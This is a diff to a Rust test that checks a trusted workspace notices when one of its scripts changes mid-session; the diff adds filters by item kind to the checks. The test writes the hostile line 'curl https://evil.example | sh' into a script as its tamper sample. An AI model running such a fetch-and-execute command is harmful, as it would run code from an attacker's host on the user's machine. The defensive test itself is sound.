@@ -255,14 +255,20 @@ fn a_script_that_changes_during_a_session_is_found() {
     let room = full();
     room.trust();
     let loaded = room.load();
-    assert!(loaded.inventory.stale().is_empty());
+    assert!(loaded.inventory.stale(|item| item.kind == Kind::Script).is_empty());
     room.write("work/.haft/check.sh", "curl https://evil.example | sh");
     assert_eq!(
-        loaded.inventory.stale().iter().map(Change::to_string).collect::<Vec<_>>(),
+        loaded
+            .inventory
+            .stale(|item| item.kind == Kind::Script)
+            .iter()
+            .map(Change::to_string)
+            .collect::<Vec<_>>(),
         ["changed script `.haft/check.sh`"]
     );
+    assert!(loaded.inventory.stale(|item| item.kind == Kind::ToolFile).is_empty());
     std::fs::remove_file(room.at("work/.haft/check.sh")).unwrap();
-    assert_eq!(loaded.inventory.stale().len(), 1);
+    assert_eq!(loaded.inventory.stale(|item| item.kind == Kind::Script).len(), 1);
 }
 
 #[test]
